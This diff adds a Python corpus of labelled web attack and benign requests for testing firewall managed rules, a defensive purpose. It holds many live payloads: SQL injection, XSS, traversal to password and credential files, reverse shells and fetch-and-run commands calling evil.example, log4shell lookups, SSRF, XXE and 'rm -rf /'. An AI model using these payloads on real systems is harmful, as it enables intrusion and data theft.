@@ -1,0 +1,288 @@
+"""A labelled corpus of web attacks and benign requests for the managed rules.
+
+Each entry is ``(label, method, target, headers, body)``; ``target`` is the
+path and query as sent on the wire (already percent-encoded where a client
+would encode). Attacks cover the classes the managed rules claim (SQL
+injection, XSS, traversal/LFI, command injection, log4shell, shellshock,
+SSRF, XXE, template injection, NoSQL, probes, scanners, protocol
+anomalies), in plain and evasive spellings. Benign requests are what real
+sites receive: browsing, searches with quotes and apostrophes, JSON APIs,
+forms, markdown and code snippets posted in bodies.
+"""
+
+from __future__ import annotations
+
+import json
+from urllib.parse import quote
+
+Entry = tuple[str, str, str, dict[str, str], bytes]
+
+BROWSER = {
+    "user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                  "Chrome/124.0 Safari/537.36",
+    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+    "accept-language": "en-US,en;q=0.9",
+}
+JSON_HEADERS = {**BROWSER, "content-type": "application/json", "accept": "application/json"}
+FORM_HEADERS = {**BROWSER, "content-type": "application/x-www-form-urlencoded"}
+
+
+def q(value: str) -> str:
+    """Percent-encode a query value as a browser would."""
+    return quote(value, safe="")
+
+
+def _get(label: str, target: str, headers: dict[str, str] | None = None) -> Entry:
+    return (label, "GET", target, {**BROWSER, **(headers or {})}, b"")
+
+
+def _arg(label: str, payload: str, name: str = "q", path: str = "/search") -> Entry:
+    return _get(label, f"{path}?{name}={q(payload)}")
+
+
+SQLI = [
+    "' OR '1'='1", "' or 1=1--", "admin'--", "1' OR '1'='1' -- ", "\" or \"\"=\"", "' or ''='",
+    "1 OR 1=1", "1' AND 1=2 UNION SELECT username, password FROM users--",
+    "-1 UNION ALL SELECT NULL,NULL,NULL--", "1 union select 1,2,group_concat(table_name) from information_schema.tables",
+    "1'; DROP TABLE users; --", "1; waitfor delay '0:0:5'--", "1' AND SLEEP(5)#",
+    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "' AND 1=CONVERT(int,(SELECT @@version))--",
+    "1' ORDER BY 3--", "1 AND ASCII(SUBSTRING((SELECT database()),1,1))>64",
+    "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users#", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
+    "' UNION SELECT load_file('/etc/passwd')--", "1' AND extractvalue(1,concat(0x7e,version()))--",
+    "'; EXEC xp_cmdshell('dir')--", "1) OR (1=1", "') or ('a'='a", "1' and benchmark(5000000,md5(1))--",
+    "1 AND 1=1", "x' AND pg_sleep(5)--", "' OR 'x'='x'#", "admin' #", "1' or true--",
+    "1'||(select 1 from dual)||'", "SELECT * FROM users WHERE id=1 OR 1=1",
+    "1%27%20OR%20%271%27%3D%271",  # double-encoded by the attacker
+    "1 uNiOn SeLeCt 1,2,3", "' union%23%0aselect 1,2--",
+]
+XSS = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>",
+    "\"><script>alert(document.cookie)</script>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>",
+    "<body onload=alert('xss')>", "<a href=\"javascript:alert(1)\">x</a>", "<ScRiPt>prompt(1)</sCrIpT>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
+    "jav\tascript:alert(1)", "<details open ontoggle=alert(1)>", "'-alert(1)-'",
+    "<input autofocus onfocus=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "%3Cscript%3Ealert(1)%3C/script%3E", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+    "<div style=\"width: expression(alert(1))\">", "\";alert(String.fromCharCode(88,83,83))//",
+    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>", "<video><source onerror=\"alert(1)\">",
+    "{{constructor.constructor('alert(1)')()}}", "＜script＞alert(1)＜/script＞", "<marquee onstart=alert(1)>",
+]
+TRAVERSAL = [
+    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd",
+    "/etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fshadow",
+    "/proc/self/environ", "php://filter/convert.base64-encode/resource=index.php",
+    "file:///etc/passwd", "expect://id", "C:\\boot.ini", "../WEB-INF/web.xml",
+    "..%252f..%252f..%252fetc%252fpasswd", "/var/log/apache2/access.log",
+]
+RCE = [
+    "; cat /etc/passwd", "| id", "`id`", "$(whoami)", "&& whoami", "; wget http://evil.example/x.sh",
+    "| nc 10.0.0.1 4444 -e /bin/sh", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "127.0.0.1; ls -la",
+    "x;curl http://evil.example/s|sh", "; ping -c 3 evil.example", "|| sleep 10", "${IFS}cat${IFS}/etc/passwd",
+    "; uname -a", "a=$(id)", "; rm -rf /", "<?php system($_GET['c']); ?>", "phpinfo()",
+    "{${system('id')}}", "; python -c 'import os'", "%0Aid", "127.0.0.1 | powershell -c whoami",
+]
+LOG4J = [
+    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "${jndi:dns://evil.example}",
+    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}",
+]
+OTHER = [
+    ("ssrf", "http://169.254.169.254/latest/meta-data/"), ("ssrf", "gopher://127.0.0.1:6379/_INFO"),
+    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
+    ("ssti", "{{7*7}}"), ("ssti", "{{config.items()}}"), ("ssti", "${7*7}"),
+    ("ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"), ("ssti", "<%= 7 * 7 %>"),
+    ("ognl", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
+    ("java", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
+    ("crlf", "x%0d%0aSet-Cookie:%20admin=1"),
+]
+
+
+# A second set, written after the signatures and first run unchanged (37/42 caught and
+# 1/38 false positive at level 1 then); kept so the figures stay honest about drift.
+HOLDOUT_ATTACKS = [
+    "admin' or 1=1#", "1' and '1'='1", "' having 1=1--", "1 and 1=1 union select null--",
+    "x' and substring(@@version,1,1)='5", "1; select pg_sleep(10)--", "' or sleep(3)='",
+    "1' group by 1,2,3--", "test') union select 1,2--", "-1' union select 1,user()#",
+    "<img src=\"x\" onerror=\"alert`1`\">", "<svg><script>alert(1)</script>", "\"onmouseover=\"alert(1)",
+    "<a href=javas&#99;ript:alert(1)>x</a>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<body background=javascript:alert(1)>", "'><img src=x:x onerror=prompt(1)>",
+    "....\\....\\....\\etc\\passwd", "..%c0%af..%c0%afetc/passwd", "/etc/shadow%00",
+    "file:///c:/windows/win.ini", ";id;", "|cat /etc/hosts", "$(curl http://x.example/a)", "`sleep 5`",
+    "& ping -n 3 127.0.0.1 &", "%0acat%20/etc/passwd", "${jndi:rmi://x.example/a}",
+    "${${upper:j}ndi:ldap://x/a}", "{{request.application.__globals__}}", "*{7*7}",
+    "http://[::ffff:169.254.169.254]/", "dict://127.0.0.1:11211/stat",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://x/\">]><x>&e;</x>", "' || '1'='1", "1 or true", "admin'/*",
+    "'; shutdown--", "1' waitfor delay '0:0:5'--", "\" onfocus=\"alert(1)\" autofocus=\"",
+    "<script src=//evil.example/x.js></script>",
+    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
+]
+HOLDOUT_BENIGN = [
+    "what's new", "rock & roll hall of fame", "1+1=2", "SELECT model car", "Bobby Tables", "<3 you",
+    "i <3 cats", "50 cent", "don't panic", "o'neil", "smith -- jones", "a/b testing", "C:\\Users\\me",
+    "~/projects", "$100 budget", "user@host:~$", "price>=10", "(555) 123-4567", "x=1;y=2", "AT&T",
+    "He said \"hi\"", "https://example.com/a?b=c&d=e", "Wait... what?", "semi; colon; list",
+    "hello world!!", "#blessed", "100% cotton", "foo.bar_baz-qux", "email me at a@b.co", "Ünïcödé",
+    "select all", "drop me a line", "union station", "script kiddie", "onload event handler docs",
+    "the alert() function", "eval vs exec", "../parent directory",
+]
+
+
+def attacks() -> list[Entry]:
+    """Return the attack requests."""
+    out: list[Entry] = [_arg("holdout", payload, "q", "/s") for payload in HOLDOUT_ATTACKS]
+    for payload in SQLI:
+        out.append(_arg("sqli", payload, "id", "/products"))
+    for payload in SQLI[:12]:
+        out.append(("sqli", "POST", "/login", FORM_HEADERS,
+                    f"user={q(payload)}&password=x".encode()))
+    for payload in SQLI[5:15]:
+        out.append(("sqli", "POST", "/api/items", JSON_HEADERS,
+                    json.dumps({"filter": payload}).encode()))
+    out.append(_get("sqli", "/products", {"cookie": f"session=abc; tracking={q(SQLI[1])}"}))
+    out.append(_get("sqli", "/", {"user-agent": "' OR 1=1 --"}))
+    for payload in XSS:
+        out.append(_arg("xss", payload))
+    for payload in XSS[:10]:
+        out.append(("xss", "POST", "/comments", FORM_HEADERS, f"comment={q(payload)}".encode()))
+    out.append(_get("xss", "/", {"referer": "https://x.example/?q=<script>alert(1)</script>"}))
+    out.append(_get("xss", "/search?q=" + q(q("<script>alert(1)</script>"))))
+    for payload in TRAVERSAL:
+        out.append(_arg("lfi", payload, "file", "/download"))
+    for raw in ("/../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
+                "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/images/..\\..\\windows\\win.ini",
+                "/files/%252e%252e/%252e%252e/etc/passwd", "/index.php%00.jpg"):
+        out.append(_get("lfi", raw))
+    for payload in RCE:
+        out.append(_arg("rce", payload, "host", "/ping"))
+    for payload in RCE[:8]:
+        out.append(("rce", "POST", "/api/run", JSON_HEADERS,
+                    json.dumps({"host": "127.0.0.1" + payload}).encode()))
+    out.append(_get("shellshock", "/cgi/status", {"user-agent": "() { :; }; /bin/bash -c 'id'"}))
+    out.append(_get("shellshock", "/", {"referer": "() { ignored; }; echo; /bin/cat /etc/passwd"}))
+    for payload in LOG4J:
+        out.append(_get("log4shell", "/", {"user-agent": payload}))
+        out.append(_get("log4shell", "/", {"x-api-version": payload}))
+        out.append(_arg("log4shell", payload, "q"))
+    for label, payload in OTHER:
+        out.append(_arg(label, payload, "url" if label == "ssrf" else "name"))
+    out.append(("xxe", "POST", "/api/import", {**BROWSER, "content-type": "application/xml"},
+                b'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+                b"<foo>&xxe;</foo>"))
+    out.append(("xxe", "POST", "/soap", {**BROWSER, "content-type": "text/xml"},
+                b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>'))
+    out.append(_get("nosql", "/login?user=admin&password[$ne]=x"))
+    out.append(("nosql", "POST", "/api/login", JSON_HEADERS,
+                b'{"user": "admin", "password": {"$where": "sleep(5000)"}}'))
+    for probe in ("/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php",
+                  "/phpmyadmin/index.php", "/.aws/credentials", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+                  "/server-status", "/backup.sql", "/.DS_Store", "/config.php.bak", "/cgi-bin/test.cgi",
+                  "/.env.production", "/actuator/env", "/_ignition/execute-solution", "/.ssh/id_rsa",
+                  "/boaform/admin/formLogin", "/.svn/entries", "/index.php.swp"):
+        out.append(_get("probe", probe))
+    for agent in ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
+                  "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+                  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+                  "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+                  "Fuzz Faster U Fool v2.0.0", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
+                  "gobuster/3.6", "Wfuzz/3.1.0", "Acunetix-WVS", "Mozilla/5.0 (compatible; Netsparker)"):
+        out.append(_get("scanner", "/", {"user-agent": agent}))
+    out.append(("protocol", "TRACE", "/", BROWSER, b""))
+    out.append(("protocol", "GET", "/", {**BROWSER, "host": ""}, b""))  # Host removed by the harness
+    out.append(("protocol", "POST", "/api/items",
+                {**JSON_HEADERS, "content-length": "5", "transfer-encoding": "chunked"}, b"{}"))
+    out.append(("protocol", "GET", "/", {**BROWSER, "x-big": "a" * 9000}, b""))
+    out.append(("protocol", "GET", "/search?q=a%00b", BROWSER, b""))
+    return out
+
+
+def benign() -> list[Entry]:
+    """Return the legitimate requests."""
+    searches = [
+        "O'Brien", "Conan O'Brien tour dates", "rock 'n' roll", "don't stop believin'",
+        "\"exact phrase\" search", "it's 5 o'clock somewhere", "Tom & Jerry", "C++ tutorial",
+        "select a bike for commuting", "drop shipping business", "union jack flag",
+        "how to delete a facebook account", "1 or 2 bedrooms", "5' 11\" in cm", "null pointer exception",
+        "price < 100", "a+b=c", "50% off", "café crème", "Москва погода", "東京 ラーメン", "#hashtag",
+        "email@example.com", "https://example.com/page?x=1", "script writing course",
+        "alert box css", "where is the closest pharmacy", "or and not", "1=1 meaning",
+        "java script tutorial", "order by date", "cat food; dog food", "sleep apnea",
+        "Who's there? It's me!", "semi;colon", "../ relative paths explained", "the <b> tag",
+        "eval in python", "what does SELECT do in SQL", "D'Angelo", "L'Oréal", "McDonald's",
+    ]
+    out: list[Entry] = [_arg("benign", term, "q", "/s") for term in HOLDOUT_BENIGN]
+    for term in searches:
+        out.append(_arg("benign", term))
+    for path in ("/", "/index.html", "/about", "/products/42", "/blog/2024/05/hello-world",
+                 "/static/css/site.v3.css", "/static/js/app.min.js", "/images/logo@2x.png",
+                 "/api/v1/users/123/orders?page=2&per_page=50&sort=-created_at",
+                 "/api/v2/search?q=shoes&filter[color]=red&filter[size]=42",
+                 "/docs/getting-started#install", "/favicon.ico", "/robots.txt", "/sitemap.xml",
+                 "/.well-known/security.txt", "/.well-known/openid-configuration",
+                 "/u/j%C3%BCrgen", "/files/report%20Q1%202024.pdf", "/tags/c%23", "/wiki/Rock_%26_Roll",
+                 "/p/a-b_c.d~e", "/health", "/callback?code=4%2F0AX4XfWh&state=xyz",
+                 "/track?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
+                 "/redirect?next=%2Fdashboard%3Ftab%3Dsettings",
+                 "/login?return_to=https%3A%2F%2Fapp.example.com%2Fhome",
+                 "/maps?ll=40.7128,-74.0060&z=12", "/calendar?from=2024-01-01T00:00:00Z&to=2024-12-31",
+                 "/search?q=%22new+york%22+hotels", "/api/items?ids=1,2,3&fields=id,name",
+                 "/img?url=https%3A%2F%2Fcdn.example.com%2Fa.png&w=300"):
+        out.append(_get("benign", path))
+    out.append(_get("benign", "/", {"cookie": "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig; "
+                                              "theme=dark; _ga=GA1.2.12345.67890; consent=%7B%22ads%22%3Afalse%7D"}))
+    out.append(_get("benign", "/", {"referer": "https://www.google.com/search?q=o%27brien+tickets"}))
+    out.append(_get("benign", "/api/me", {"authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln",
+                                          "accept": "application/json"}))
+    out.append(_get("benign", "/", {"if-none-match": 'W/"5e-abc"', "cache-control": "no-cache"}))
+    out.append(("benign", "HEAD", "/", BROWSER, b""))
+    out.append(("benign", "OPTIONS", "/api/items", {**BROWSER, "origin": "https://app.example.com",
+                                                    "access-control-request-method": "POST"}, b""))
+    json_bodies = [
+        b'{"name": "Conan O\'Brien", "email": "conan@example.com", "age": 60}',
+        b'{"query": "shoes", "filters": {"price": {"min": 10, "max": 100}}, "sort": "price"}',
+        b'{"title": "My post", "body": "# Heading\\n\\nSome *markdown* with a [link](https://example.com) '
+        b'and `code`.\\n\\n- item 1\\n- item 2\\n\\n> quote"}',
+        b'{"snippet": "def add(a, b):\\n    return a + b\\n\\nprint(add(1, 2))"}',
+        b'{"snippet": "for (let i = 0; i < n; i++) { if (a[i] > max && ok) { max = a[i]; } }"}',
+        b'{"snippet": "SELECT name, email FROM customers WHERE country = \'DE\' ORDER BY name;"}',
+        b'{"comment": "I don\'t think 1 + 1 = 2 is always true in every field, or is it?"}',
+        b'{"html": "<p>Hello <b>world</b>, see <a href=\\"https://example.com\\">this</a></p>"}',
+        b'{"address": "12 O\'Connell St; Apt 3 & 4, Dublin"}',
+        b'{"password": "p@ss\'w0rd\\"--;#", "remember": true}',
+        b'{"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-2", "qty": 1}], "coupon": "SPRING-10%"}',
+        b'{"template": "Hello {{name}}, your order {{order_id}} has shipped."}',
+        b'{"message": "Run `npm install` then `npm run build`. If it fails, rm -rf node_modules."}',
+        b'{"readme": "Usage: curl -s https://api.example.com/v1/items | jq .", "lang": "en"}',
+        b'{"regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\\\.[a-z]{2,}$"}',
+        b'{"description": "The union of two sets; select the items from the list below."}',
+        b'{"code": "import os\\nprint(os.getcwd())"}',
+        b'{"query": "{ user(id: 1) { name posts { title } } }"}',
+        b'{"note": "Meet at 5 o\'clock; bring the \\"big\\" box & the keys."}',
+        b'{"url": "https://example.com/callback?token=abc&next=/home"}',
+    ]
+    for body in json_bodies:
+        out.append(("benign", "POST", "/api/posts", JSON_HEADERS, body))
+    forms = [
+        "name=Conan+O%27Brien&email=conan%40example.com&message=Hi%2C+I%27d+like+a+quote.",
+        "q=O%27Reilly+books&category=all",
+        "username=jdoe&password=Tr0ub4dor%263&remember=on",
+        "comment=Great+article%21+I+especially+liked+the+part+about+%22select%22+queries.",
+        "address=1+Main+St.%2C+Apt+%234&city=Springfield&zip=12345",
+        "bio=I+love+C%2B%2B+%26+Python%3B+also+cats.",
+    ]
+    for body in forms:
+        out.append(("benign", "POST", "/contact", FORM_HEADERS, body.encode()))
+    out.append(("benign", "PUT", "/api/items/7", JSON_HEADERS, b'{"name": "Widget", "price": 9.99}'))
+    out.append(("benign", "PATCH", "/api/items/7", JSON_HEADERS, b'{"price": 10.49}'))
+    out.append(("benign", "DELETE", "/api/items/7", JSON_HEADERS, b""))
+    out.append(("benign", "POST", "/upload", {**BROWSER, "content-type":
+                "multipart/form-data; boundary=XyZ"},
+                b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"photo.jpg\"\r\n"
+                b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0binary\r\n--XyZ--\r\n"))
+    for agent in ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
+                  "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
+                  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+                  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/537.36 (KHTML, like Gecko) "
+                  "Chrome/124.0 Safari/537.36 Edg/124.0",
+                  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"):
+        out.append(_get("benign", "/", {"user-agent": agent}))
+    return out
